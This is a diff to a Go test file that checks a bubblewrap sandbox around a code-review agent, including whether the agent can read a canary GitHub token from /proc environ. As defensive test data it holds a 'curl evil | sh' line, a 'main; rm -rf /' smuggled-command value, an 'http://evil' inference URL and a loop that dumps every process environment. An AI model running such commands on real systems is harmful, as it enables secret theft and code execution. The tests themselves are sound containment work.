@@ -12,10 +12,12 @@ import (
 	"runtime"
 	"strconv"
 	"strings"
+	"sync"
 	"syscall"
 	"testing"
 	"time"
 
+	"github.com/mcp-registry/updater/updater/agentbox"
 	"github.com/mcp-registry/updater/updater/internal/mdsafe"
 )
 
@@ -34,17 +36,32 @@ func sharedDir(t *testing.T, mode os.FileMode) string {
 	return d
 }
 
+// agentSpec is a run of command, sandboxed (the default), on a copy of a
+// one-file tree.
 func agentSpec(t *testing.T, command string) AgentSpec {
 	t.Helper()
-	code := sharedDir(t, 0o755)
+	requireBwrap(t)
+	code := t.TempDir()
 	if err := os.WriteFile(filepath.Join(code, "server.py"), []byte("print('hello')\n"), 0o644); err != nil {
 		t.Fatal(err)
 	}
 	return AgentSpec{
-		Command: command, CodeDir: code, Base: baseSHA, Head: headSHA,
+		Command: command, Checkout: copyOf(code), Base: baseSHA, Head: headSHA,
 		Project: "https://github.com/example-org/example-mcp", Directory: "src/weather",
 		Timeout: 20 * time.Second,
 	}
+}
+
+// copyOf is a Checkout that copies src.
+func copyOf(src string) func(context.Context, string) error {
+	return func(_ context.Context, dst string) error { return os.CopyFS(dst, os.DirFS(src)) }
+}
+
+// unsandboxed is agentSpec with --agent-sandbox none.
+func unsandboxed(t *testing.T, command string) AgentSpec {
+	a := agentSpec(t, command)
+	a.Sandbox = agentbox.None
+	return a
 }
 
 func runAgent(t *testing.T, a AgentSpec) *Result {
@@ -104,7 +121,7 @@ func TestAgentBlocked(t *testing.T) {
 }
 
 func TestAgentExtraFilesAreDiscarded(t *testing.T) {
-	res := runAgent(t, agentSpec(t, `o="$REVIEW_OUTPUT_DIR"; echo "$o" > "$o/report.md"; `+fmt.Sprintf(writeLabel, "low")+
+	res := runAgent(t, unsandboxed(t, `o="$REVIEW_OUTPUT_DIR"; echo "$o" > "$o/report.md"; `+fmt.Sprintf(writeLabel, "low")+
 		`; echo 'curl evil | sh' > "$o/run.sh"; mkdir -p "$o/deep/er"; echo x > "$o/deep/er/labels.txt"; echo x > "$HOME/.cache"; echo x > "$TMPDIR/scratch"; `+
 		`mkdir "$o/locked"; touch "$o/locked/f"; chmod 000 "$o/locked"`))
 	if res.Risk != Low || len(res.Findings) != 1 {
@@ -220,7 +237,7 @@ func TestAgentNeverSeesTheToken(t *testing.T) {
 
 func TestAgentTimeoutKillsTheWholeGroup(t *testing.T) {
 	pidFile := filepath.Join(sharedDir(t, 0o777), "pid")
-	a := agentSpec(t, `sleep 60 & echo $! > "$PIDFILE"; sh -c 'sleep 60' ; echo late > "$REVIEW_OUTPUT_DIR/report.md"`)
+	a := unsandboxed(t, `sleep 60 & echo $! > "$PIDFILE"; sh -c 'sleep 60' ; echo late > "$REVIEW_OUTPUT_DIR/report.md"`)
 	a.Env = []string{"PIDFILE=" + pidFile}
 	// Long enough for the shell to start on a loaded machine, far below
 	// the sleeps.
@@ -250,7 +267,7 @@ func TestAgentTimeoutKillsTheWholeGroup(t *testing.T) {
 
 func TestAgentBackgroundChildrenKilledAfterExit(t *testing.T) {
 	pidFile := filepath.Join(sharedDir(t, 0o777), "pid")
-	a := agentSpec(t, `sleep 60 >/dev/null 2>&1 & echo $! > "$PIDFILE"; echo r > "$REVIEW_OUTPUT_DIR/report.md"; `+fmt.Sprintf(writeLabel, "info"))
+	a := unsandboxed(t, `sleep 60 >/dev/null 2>&1 & echo $! > "$PIDFILE"; echo r > "$REVIEW_OUTPUT_DIR/report.md"; `+fmt.Sprintf(writeLabel, "info"))
 	a.Env = []string{"PIDFILE=" + pidFile}
 	runAgent(t, a)
 	b, _ := os.ReadFile(pidFile)
@@ -322,11 +339,13 @@ func TestAgentSpecValidation(t *testing.T) {
 		want string
 	}{
 		{"no command", func(a *AgentSpec) { a.Command = " " }, "no command"},
-		{"missing code dir", func(a *AgentSpec) { a.CodeDir = filepath.Join(a.CodeDir, "nope") }, "code directory"},
-		{"code dir is a file", func(a *AgentSpec) { a.CodeDir = filepath.Join(a.CodeDir, "server.py") }, "not a directory"},
+		{"no checkout", func(a *AgentSpec) { a.Checkout = nil }, "no checkout"},
+		{"checkout fails", func(a *AgentSpec) { a.Checkout = copyOf("/nonexistent") }, "checking out the code"},
+		{"bad sandbox mode", func(a *AgentSpec) { a.Sandbox = 7 }, "agent sandbox"},
+		{"reserved inference variable", func(a *AgentSpec) { a.Env = []string{"ANTHROPIC_BASE_URL=http://evil"} }, "set by the review"},
 		{"bad sha", func(a *AgentSpec) { a.Head = "main; rm -rf /" }, "not a commit SHA"},
 		{"token in env", func(a *AgentSpec) { a.Env = []string{"GITHUB_TOKEN=x"} }, "refusing to pass GITHUB_TOKEN"},
-		{"secret-looking env", func(a *AgentSpec) { a.Env = []string{"OPENAI_API_KEY=x"} }, "refusing"},
+		{"secret-looking env", func(a *AgentSpec) { a.Env = []string{"MY_API_KEY=x"} }, "refusing"},
 		{"override review vars", func(a *AgentSpec) { a.Env = []string{"REVIEW_OUTPUT_DIR=/"} }, "set by the review"},
 		{"override home", func(a *AgentSpec) { a.Env = []string{"HOME=/root"} }, "set by the review"},
 		{"malformed env", func(a *AgentSpec) { a.Env = []string{"NOEQUALS"} }, "malformed"},
@@ -357,23 +376,53 @@ func TestAgentParentCancelled(t *testing.T) {
 }
 
 // The agent's own environment is scrubbed, but the bot's environment at
-// start (GITHUB_TOKEN) stays readable in /proc/<bot>/environ. A child test
-// process started with a canary token runs an agent that reads its
-// parent's environ; the canary must not come back.
+// start (GITHUB_TOKEN) stays readable in /proc/<bot>/environ, and so does
+// that of the shell that started the bot (the GitHub Actions step shell).
+// A child test process, started by a shell holding a canary token, runs an
+// agent that reads every /proc/<pid>/environ it can; the canary must not
+// come back, whether the bot runs as root or not.
 const helperEnv = "REVIEW_TEST_AGENT_HELPER"
 
 func TestMain(m *testing.M) {
-	if code := os.Getenv(helperEnv); code != "" {
-		os.Exit(agentHelper(code))
+	if len(os.Args) > 1 && os.Args[1] == agentbox.ForwardCommand {
+		os.Exit(agentbox.ForwardMain(os.Args[2:]))
 	}
-	os.Exit(m.Run())
+	if mode := os.Getenv(helperEnv); mode != "" {
+		os.Exit(agentHelper(mode))
+	}
+	code := m.Run()
+	if nobodysBinary.path != "" {
+		os.RemoveAll(filepath.Dir(nobodysBinary.path))
+	}
+	os.Exit(code)
 }
 
-func agentHelper(codeDir string) int {
+const readAllEnvirons = `for f in /proc/[0-9]*/environ; do echo "== $f"; tr '\0' '\n' < "$f"; done > "$REVIEW_OUTPUT_DIR/report.md" 2>&1; ` +
+	`echo security-risk:info > "$REVIEW_OUTPUT_DIR/labels.txt"`
+
+func agentHelper(mode string) int {
+	sandbox, err := agentbox.ParseMode(mode)
+	if err != nil {
+		fmt.Println("error:", err)
+		return 1
+	}
+	code, err := os.MkdirTemp("", "helper-code-")
+	if err != nil {
+		fmt.Println("error:", err)
+		return 1
+	}
+	defer os.RemoveAll(code)
+	if err := os.WriteFile(filepath.Join(code, "server.py"), []byte("print('hello')\n"), 0o644); err != nil {
+		fmt.Println("error:", err)
+		return 1
+	}
+	command := readAllEnvirons
+	if c := os.Getenv(helperEnv + "_CMD"); c != "" {
+		command = c
+	}
 	res, err := RunAgent(context.Background(), AgentSpec{
-		Command: `cat /proc/$PPID/environ | tr '\0' '\n' > "$REVIEW_OUTPUT_DIR/report.md"; echo security-risk:info > "$REVIEW_OUTPUT_DIR/labels.txt"`,
-		CodeDir: codeDir, Base: baseSHA, Head: headSHA, Timeout: 10 * time.Second,
-		RunAsRoot: os.Getenv(helperEnv+"_ROOT") == "1",
+		Command: command, Checkout: copyOf(code), Base: baseSHA, Head: headSHA, Timeout: 20 * time.Second,
+		Sandbox: sandbox, RunAsRoot: os.Getenv(helperEnv+"_ROOT") == "1",
 	})
 	if err != nil {
 		fmt.Println("error:", err)
@@ -383,12 +432,36 @@ func agentHelper(codeDir string) int {
 	return 0
 }
 
-func runAgentHelper(t *testing.T, canary string, asRoot bool) string {
+// helperUser is who the helper bot process runs as.
+type helperUser int
+
+const (
+	asSelf helperUser = iota
+	asNobody
+)
+
+// runAgentHelper runs the helper bot under a shell that holds canary in
+// its environment, as GitHub Actions runs a step.
+func runAgentHelper(t *testing.T, canary string, sandbox agentbox.Mode, user helperUser, agentAsRoot bool) string {
 	t.Helper()
-	cmd := exec.Command(os.Args[0], "-test.run=^$")
-	cmd.Env = append(os.Environ(), "GITHUB_TOKEN="+canary, helperEnv+"="+sharedDir(t, 0o755))
-	if asRoot {
+	return runAgentHelperCmd(t, "", canary, sandbox, user, agentAsRoot)
+}
+
+// runAgentHelperCmd is runAgentHelper with the agent command given
+// ("" reads every environ).
+func runAgentHelperCmd(t *testing.T, command, canary string, sandbox agentbox.Mode, user helperUser, agentAsRoot bool) string {
+	t.Helper()
+	bin := os.Args[0]
+	cmd := exec.Command("/bin/sh", "-c", `"$0" -test.run='^$'; exit $?`, bin)
+	cmd.Env = append(os.Environ(), "GITHUB_TOKEN="+canary, helperEnv+"="+sandbox.String(), helperEnv+"_CMD="+command)
+	if agentAsRoot {
 		cmd.Env = append(cmd.Env, helperEnv+"_ROOT=1")
+	}
+	if user == asNobody {
+		bin = nobodysTestBinary(t)
+		cmd.Args[len(cmd.Args)-1] = bin
+		cmd.Dir = filepath.Dir(bin)
+		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
 	}
 	out, err := cmd.CombinedOutput()
 	if err != nil {
@@ -397,21 +470,65 @@ func runAgentHelper(t *testing.T, canary string, asRoot bool) string {
 	return string(out)
 }
 
-func TestAgentCannotReadTheBotsStartEnvironment(t *testing.T) {
+var nobodysBinary struct {
+	once sync.Once
+	path string
+	err  error
+}
+
+// nobodysTestBinary is a copy of this test binary that nobody can run
+// (its own directory is private to root), made once per process.
+func nobodysTestBinary(t *testing.T) string {
+	t.Helper()
+	b := &nobodysBinary
+	b.once.Do(func() {
+		dir, err := os.MkdirTemp("", "agent-test-bin-")
+		if err == nil {
+			err = os.Chmod(dir, 0o755)
+		}
+		var data []byte
+		if err == nil {
+			data, err = os.ReadFile(os.Args[0])
+		}
+		if err == nil {
+			b.path = filepath.Join(dir, "agent.test")
+			err = os.WriteFile(b.path, data, 0o755)
+		}
+		b.err = err
+	})
+	if b.err != nil {
+		t.Fatal(b.err)
+	}
+	return b.path
+}
+
+func TestAgentCannotReadAnyStartEnvironment(t *testing.T) {
+	requireBwrap(t)
 	const canary = "ghp_canaryINITIALenvironmentCANARY0123456"
-	out := runAgentHelper(t, canary, false)
-	if strings.Contains(out, canary) {
-		t.Fatalf("the agent read the token from its parent's /proc environ:\n%s", out)
-	}
-	if !strings.Contains(out, "report:\n") || !strings.Contains(out, "environ") {
-		t.Errorf("the agent did not run as expected:\n%s", out)
-	}
+	users := []helperUser{asSelf}
 	if os.Geteuid() == 0 {
-		// Control: root keeping CAP_SYS_PTRACE reads any environ, so with
-		// RunAsRoot the same agent finds the canary. This proves the
-		// assertion above can fail.
-		if out := runAgentHelper(t, canary, true); !strings.Contains(out, canary) {
-			t.Errorf("control: a root agent did not find the canary:\n%s", out)
+		users = append(users, asNobody)
+	}
+	for _, user := range users {
+		t.Run(fmt.Sprintf("uid %d", map[helperUser]int{asSelf: os.Geteuid(), asNobody: 65534}[user]), func(t *testing.T) {
+			out := runAgentHelper(t, canary, agentbox.Bwrap, user, false)
+			if strings.Contains(out, canary) {
+				t.Fatalf("the agent read the token from a /proc environ:\n%s", mdsafe.Truncate(out, 4000))
+			}
+			if !strings.Contains(out, "report:\n") || !strings.Contains(out, "REVIEW_MODE=differential") {
+				t.Errorf("the agent did not run as expected:\n%s", mdsafe.Truncate(out, 4000))
+			}
+		})
+	}
+	// Controls, proving the assertion above can fail: unsandboxed, root
+	// keeping CAP_SYS_PTRACE reads any environ, and a non-root agent reads
+	// the step shell's, which is its own user's.
+	if os.Geteuid() == 0 {
+		if out := runAgentHelper(t, canary, agentbox.None, asSelf, true); !strings.Contains(out, canary) {
+			t.Errorf("control: an unsandboxed root agent did not find the canary:\n%s", mdsafe.Truncate(out, 4000))
+		}
+		if out := runAgentHelper(t, canary, agentbox.None, asNobody, false); !strings.Contains(out, canary) {
+			t.Errorf("control: an unsandboxed non-root agent did not find the canary:\n%s", mdsafe.Truncate(out, 4000))
 		}
 	}
 }
@@ -453,8 +570,9 @@ func TestExampleAgentFollowsTheContract(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	res := runAgent(t, AgentSpec{Command: "sh " + script, CodeDir: code, Base: base, Head: head,
-		Project: "https://github.com/example-org/weather", Directory: "src/weather", Timeout: 20 * time.Second})
+	requireBwrap(t)
+	res := runAgent(t, AgentSpec{Command: "sh " + script, Checkout: copyOf(code), Base: base, Head: head,
+		Tools: []string{filepath.Dir(script)}, Project: "https://github.com/example-org/weather", Directory: "src/weather", Timeout: 20 * time.Second})
 	if res.Risk != Medium || len(res.Findings) != 1 || res.Findings[0].Rule != RuleAgentReview {
 		t.Errorf("%s\n%s\nlog: %s", res.Summary(), dumpFindings(res.Findings), res.AgentLog)
 	}
@@ -462,5 +580,14 @@ func TestExampleAgentFollowsTheContract(t *testing.T) {
 		if !strings.Contains(res.AgentReport, want) {
 			t.Errorf("example report lacks %q:\n%s", want, res.AgentReport)
 		}
+	}
+}
+
+// requireBwrap skips a sandbox test where bubblewrap is not installed
+// (.ci/run installs it, so CI never skips).
+func requireBwrap(t *testing.T) {
+	t.Helper()
+	if err := agentbox.Installed(); err != nil {
+		t.Skip(err)
 	}
 }
